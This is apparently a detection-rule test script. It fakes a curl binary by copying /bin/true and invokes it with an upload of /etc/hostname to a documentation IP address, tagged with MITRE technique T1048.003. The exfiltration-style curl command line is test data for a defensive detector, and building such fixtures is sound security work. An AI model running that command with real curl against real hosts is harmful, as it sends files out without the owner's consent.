#!/bin/sh
# what: Asks a program called curl to send a file away; it does nothing.
# rule: upload_by_http_tool
# technique: T1048.003
# severity: medium
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cp /bin/true "$d/curl"
"$d/curl" -s -F "file=@/etc/hostname" http://198.51.100.7/upload
